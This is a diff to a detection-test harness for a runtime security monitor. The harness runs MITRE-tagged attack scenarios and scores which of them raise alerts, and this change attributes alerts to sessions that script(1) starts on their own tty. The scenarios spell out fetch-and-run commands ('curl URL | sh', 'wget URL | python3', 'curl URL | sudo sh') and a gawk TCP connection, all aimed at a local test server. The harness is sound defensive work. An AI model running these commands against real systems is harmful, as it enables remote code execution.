@@ -7,7 +7,8 @@
 # visudo, useradd, insmod, setcap, nsenter, unshare, bpftool, chattr, dig, nmap,
 # podman ...) and spellings saker-eventgen does not use. Each scenario runs in
 # a session of its own under a live saker with the default rules; alerts are
-# attributed by proc.sid (container scenarios by container id). A scenario is
+# attributed by proc.sid (container scenarios by container id; a scenario whose
+# shell gets a tty of its own writes that session's id to xsid.NAME). A scenario is
 # caught when it raises an alert at Warning or above.
 #
 # Safety: everything is local and undone at once. Network scenarios run in a
@@ -131,7 +132,8 @@ s_gawk_inet() { listen 4722 && timeout 4 gawk "BEGIN {s = \"/inet/tcp/0/$A/4722\
 S curl_pipe_sh T1059.004 net curl "sh -c 'curl -fsS URL | sh'"
 s_curl_pipe_sh() { serve && timeout 10 sh -c "curl -fsS http://$A:8000/x.sh | sh"; }
 S curl_pipe_sh_tty T1059.004 net curl,script "curl URL | sh typed at an interactive bash (job control, a tty)"
-s_curl_pipe_sh_tty() { serve && printf 'curl -fsS http://%s:8000/x.sh | sh\nexit\n' "$A" | timeout 10 script -qc 'bash --norc --noprofile -i' /dev/null >/dev/null; }
+# script(1) starts the shell in a session of its own (its tty's): its id goes to xsid.NAME
+s_curl_pipe_sh_tty() { serve && printf 'curl -fsS http://%s:8000/x.sh | sh\nexit\n' "$A" | timeout 10 script -qc 'echo $$ >"$W/xsid.curl_pipe_sh_tty"; exec bash --norc --noprofile -i' /dev/null >/dev/null; }
 S wget_pipe_python T1059.006 net wget "wget -qO- URL | python3"
 s_wget_pipe_python() { serve && timeout 10 bash -c "wget -qO- http://$A:8000/x.py | python3"; }
 S curl_pipe_sudo_sh T1059.004 net curl,sudo "curl URL | sudo sh"
@@ -540,7 +542,13 @@ for line in open(w + "/runs"):
     if extra:
         mine = [a for a in alerts if a["output_fields"].get("container.id") == extra]
     else:
-        mine = [a for a in alerts if a["output_fields"].get("proc.sid") == int(sid)]
+        # the scenario's session, and those it started (a tty's: xsid.NAME, one id a line)
+        sids = {int(sid)}
+        try:
+            sids |= {int(x) for x in open(f"{w}/xsid.{name}").read().split()}
+        except OSError:
+            pass
+        mine = [a for a in alerts if a["output_fields"].get("proc.sid") in sids]
     rules = sorted({f'{a["rule"]} ({a["priority"]})' for a in mine})
     if any(a["priority"] in loud for a in mine):
         caught += 1
